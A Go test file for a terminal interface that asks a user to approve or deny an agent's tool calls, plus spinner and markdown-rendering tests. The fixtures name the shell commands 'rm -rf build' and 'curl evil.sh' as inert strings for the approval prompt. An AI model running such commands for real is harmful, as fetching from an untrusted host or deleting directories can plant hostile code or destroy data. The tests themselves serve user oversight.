package ui

import (
	"testing"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func keyMsg(s string) tea.KeyMsg {
	if s == "enter" {
		return tea.KeyMsg{Type: tea.KeyEnter}
	}
	return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s)}
}

func TestConfirmModelApprove(t *testing.T) {
	m := confirmModel{tool: "shell", resource: "rm -rf build"}

	updated, cmd := m.Update(keyMsg("y"))

	final, ok := updated.(confirmModel)
	require.True(t, ok)
	assert.True(t, final.approved)
	assert.True(t, final.answered)
	assert.NotNil(t, cmd)
}

func TestConfirmModelDeny(t *testing.T) {
	m := confirmModel{tool: "shell", resource: "curl evil.sh"}

	updated, _ := m.Update(keyMsg("n"))

	final := updated.(confirmModel)
	assert.False(t, final.approved)
	assert.True(t, final.answered)
}

func TestConfirmModelIgnoresOtherKeys(t *testing.T) {
	m := confirmModel{tool: "write", resource: "main.go"}

	updated, cmd := m.Update(keyMsg("x"))

	final := updated.(confirmModel)
	assert.False(t, final.answered)
	assert.Nil(t, cmd)
}

func TestConfirmModelEnterApproves(t *testing.T) {
	m := confirmModel{tool: "write", resource: "main.go"}

	updated, _ := m.Update(keyMsg("enter"))

	final := updated.(confirmModel)
	assert.True(t, final.approved)
}

func TestConfirmViewMentionsToolAndResource(t *testing.T) {
	m := confirmModel{tool: "shell", resource: "make test"}

	view := m.View()

	assert.Contains(t, view, "shell")
	assert.Contains(t, view, "make test")
}

func TestSpinnerModelQuitsOnDone(t *testing.T) {
	m := spinnerModel{message: "working"}

	_, cmd := m.Update(doneMsg{})

	require.NotNil(t, cmd)
	assert.Equal(t, tea.Quit(), cmd())
}

func TestRenderMarkdownNeverEmpty(t *testing.T) {
	out := RenderMarkdown("# heading\n\nsome *text*")
	assert.NotEmpty(t, out)
}
